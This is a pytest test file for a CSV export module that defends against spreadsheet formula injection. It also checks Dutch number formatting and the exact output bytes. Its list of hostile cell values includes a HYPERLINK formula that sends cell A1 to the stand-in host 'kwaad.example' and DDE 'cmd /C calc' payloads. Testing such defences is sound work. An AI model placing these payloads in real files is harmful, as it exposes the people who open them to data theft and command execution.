"""A CSV file: what Excel opens by itself, and nothing in it that it would carry out."""

import csv
from pathlib import Path

import pytest

from gateway.cli import spreadsheet

HOSTILE = [
    '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")',
    "=cmd|' /C calc'!A0",
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
HARMLESS = ["Energie Voorbeeld B.V.", "A=B", "' OR 1=1", 'De "Gouden" Leeuw; Incasso', "regel\neen", " =1+1", "é"]


def written(file: Path, *rows: list[spreadsheet.Cell]) -> list[list[str]]:
    spreadsheet.write(file, ["naam", "aantal"], rows)
    with file.open(encoding="utf-8-sig", newline="") as back:
        return list(csv.reader(back, delimiter=";", strict=True))


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_spreadsheet_would_carry_out_is_text(tmp_path: Path, name: str) -> None:
    assert written(tmp_path / "uit.csv", [name, 1])[1:] == [[f"'{name}", "1"]]


@pytest.mark.parametrize("name", HARMLESS)
def test_any_other_text_comes_back_as_it_was_in_a_cell_of_its_own(tmp_path: Path, name: str) -> None:
    assert written(tmp_path / "uit.csv", [name, 1], ["b", 2])[1:] == [[name, "1"], ["b", "2"]]


def test_a_header_is_no_formula_either(tmp_path: Path) -> None:
    spreadsheet.write(tmp_path / "uit.csv", ["=1+1"], [])
    assert (tmp_path / "uit.csv").read_text("utf-8-sig") == '"\'=1+1"\n'


@pytest.mark.parametrize(
    ("value", "shown"),
    [(None, ""), (0, "0"), (1_700_000, "1700000"), (0.9821, "0,9821"), (1.0, "1"), (0.0, "0"), ("", "")],
)
def test_numbers_are_as_a_dutch_spreadsheet_reads_them(value: spreadsheet.Cell, shown: str) -> None:
    assert spreadsheet.cell(value) == shown


def test_the_bytes_are_those_that_excel_recognises(tmp_path: Path) -> None:
    file = tmp_path / "uit.csv"
    file.write_text("wat er eerst stond, en langer was dan wat er komt" * 10)
    spreadsheet.write(file, ["naam"], [["Zuid-Café"]])
    assert file.read_bytes() == b'\xef\xbb\xbf"naam"\r\n"Zuid-Caf\xc3\xa9"\r\n'
